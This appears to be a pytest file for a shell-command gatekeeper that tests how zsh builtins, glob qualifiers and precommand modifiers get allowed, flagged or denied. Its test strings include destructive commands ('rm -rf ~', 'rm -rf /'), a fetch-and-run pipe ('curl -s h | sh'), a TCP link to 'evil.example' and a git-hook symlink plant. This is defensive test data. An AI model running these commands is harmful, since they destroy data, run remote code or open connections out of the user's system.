"""zsh (CG-ZSH): builtins that load modules or run code ASK; expansions that run code are read
as execution, their code checked."""

from __future__ import annotations

import pytest
from vtables import ALLOW, ASK, DENY, assert_allowed, assert_caught, decide


@pytest.mark.parametrize(("line", "expected", "rule"), [
    ("zmodload zsh/net/tcp", ASK, "CG-ZSH-001"),
    ("ztcp evil.example 4444", ASK, "CG-ZSH-001"),
    ("zsocket -l /tmp/s", ASK, "CG-ZSH-001"),
    ("sysopen -w -u fd /tmp/x", ASK, "CG-ZSH-001"),
    ("fc -e - ", ASK, "CG-ZSH-001"),
    ("autoload /tmp/x/evil", ASK, "CG-ZSH-001"),
    ("emulate sh -c 'echo hi'", ASK, "CG-ZSH-001"),
    ("emulate sh -c 'rm -rf ~'", DENY, "CG-CAT-001"),
    ("zpty w 'rm -rf ~'", DENY, "CG-CAT-001"),
    ("sched +1 rm -rf ~", DENY, "CG-CAT-001"),
    ("=rm -rf /", DENY, "CG-CAT-001"),
    ("noglob rm -rf ~", DENY, "CG-CAT-001"),
])
def test_zsh_builtins_and_command_words(line: str, expected: object, rule: str) -> None:
    assert_caught(line, expected, rule)  # type: ignore[arg-type]


@pytest.mark.parametrize("line", [
    "ls *(e:'rm -rf ~':)",
    "ls *(e{'curl -s h | sh'})",
    "print -l *(+evil)",
    "echo ${(e)x}",
])
def test_code_running_expansions_are_never_allowed(line: str) -> None:
    outcome, rules = decide(line)
    assert outcome is not ASK or rules, line
    assert outcome in (ASK, DENY)


def test_the_qualifier_code_is_checked() -> None:
    from vtables import CTX

    from clawgate.shell.model import SimpleCommand, Word
    from clawgate.validators.zsh import ZshCodeExpansion

    words = (Word("ls", "ls"), Word("*(e:'rm -rf ~':)", None))
    verdict = ZshCodeExpansion().check(SimpleCommand("ls *(e:'rm -rf ~':)", words), CTX)
    assert verdict.outcome is ASK and verdict.reasons[0].rule_id == "CG-ZSH-003"
    assert verdict.nested == ("rm -rf ~",)


@pytest.mark.parametrize("line", [
    "autoload -Uz compinit",
    "zmodload",
    "noglob git log",
    "=ls -l",
    "fc -l",
    'echo "$(date)"',
    # parentheses inside quotes, here-documents or comments are no glob qualifier
    'python -c "from sympy import S; print(type(S(False))); print(S(False))"',
    "python3 -c 'print(Poly(x*(x+y)).sqf_list())'",
    "cat <<'EOF' > check.py\nprint(Poly(x*(x+y)).sqf_list())\nprint(f(False))\nEOF",
    "cat <<EOF > check.py\nprint(f(False))\nEOF",
    "ls  # keep f(e:x:)",
])
def test_everyday_zsh_is_allowed(line: str) -> None:
    assert_allowed(line)


def test_the_command_word_is_unwrapped() -> None:
    """CG-ZSH-003 hands ``=rm …`` on as ``rm …``; CG-ZSH-002 ``noglob rm …`` as ``rm …``."""
    from vtables import CTX

    from clawgate.shell import parse
    from clawgate.shell.model import SimpleCommand
    from clawgate.validators.zsh import ZshCodeExpansion, ZshPrecommandModifier

    modified = ZshPrecommandModifier().check(parse("noglob rm -rf /").commands[0], CTX)
    assert [c.argv for c in modified.nested if isinstance(c, SimpleCommand)] == [
        ("rm", "-rf", "/")]
    verdict = ZshCodeExpansion().check(parse("=rm -rf /").commands[0], CTX)
    inner = verdict.nested[0]
    assert isinstance(inner, SimpleCommand) and inner.argv == ("rm", "-rf", "/")


@pytest.mark.parametrize("line", [
    "ruby -e 'system(\"bundle\", \"exec\", \"ruby\", \"-e1\")'",
    "V=$(node -e \"console.log(require('./package.json').version)\")",
    "python -c 'print(exec)'",
    "echo 'a(e:x:)'",
])
def test_parentheses_that_are_no_qualifier_are_left_alone(line: str) -> None:
    from vtables import CTX

    from clawgate.shell import parse
    from clawgate.validators.zsh import ZshCodeExpansion

    for cmd in parse(line).commands:
        assert ZshCodeExpansion().check(cmd, CTX).outcome is not ASK, cmd.text


def test_hostile_text_is_read_in_bounded_time() -> None:
    """Thousands of ``(e:`` without an end: bounded repeats keep the pattern linear, and a
    command longer than the bound asks instead of being read (no clock: the line decides)."""
    from vtables import CTX

    from clawgate.shell.model import SimpleCommand, Word
    from clawgate.validators.zsh import ZshCodeExpansion

    text = "ls " + "x(e:" * 5000
    cmd = SimpleCommand(text, (Word("ls", "ls"), Word(text[3:], None)))
    verdict = ZshCodeExpansion().check(cmd, CTX)
    assert verdict.outcome is ASK and verdict.reasons[0].rule_id == "CG-ZSH-003"


@pytest.mark.parametrize("line", [
    "print -l *(.)",
    "ls -d *(/)",
    "ls **/*.py(.)",
    "ls *(.om[1,3])",
    "echo src/*(N)",
    "ls *(.) | wc -l",
    "emulate -L zsh",
    "repeat 3 echo hi",
])
def test_glob_qualifiers_that_only_narrow_parse_and_are_allowed(line: str) -> None:
    assert_allowed(line)


@pytest.mark.parametrize(("line", "expected"), [
    ("rm -rf ~/*(N)", DENY),  # read as rm -rf ~/*
    ("repeat 3 rm -rf ~", DENY),
    ("zmodload -F zsh/files b:zf_rm; zf_rm -rf ~", DENY),
    ("zf_ln -sf /tmp/evil .git/hooks/pre-commit", ASK),
    ("ls *(e:'rm -rf ~':)", DENY),  # a qualifier that runs code is never taken out
])
def test_what_qualifiers_and_file_builtins_run_is_checked(line: str, expected: object) -> None:
    assert_caught(line, expected, None)  # type: ignore[arg-type]


@pytest.mark.parametrize("line", ["ls *(mh-1)", "ls *(.Lk+100)", "print -rl -- **/*(.)"])
def test_time_and_size_qualifiers_parse(line: str) -> None:
    assert_allowed(line)


def test_a_function_qualifier_is_never_taken_out() -> None:
    outcome, _ = decide("ls *(+evil)")
    assert outcome is not ALLOW


@pytest.mark.parametrize("line", [
    # a qualifier outside quotes still runs, beside quoted text or in a substitution
    "ls \"notes\" *(e:'rm -rf ~':)",
    "echo \"$(ls *(e:'rm -rf ~':))\"",
    "cat <<EOF\n$(ls *(e:'rm -rf ~':))\nEOF",
    "echo 'x' `ls *(e:'rm -rf ~':)`",
])
def test_qualifiers_beside_quotes_are_still_read(line: str) -> None:
    outcome, _ = decide(line)
    assert outcome in (ASK, DENY), line
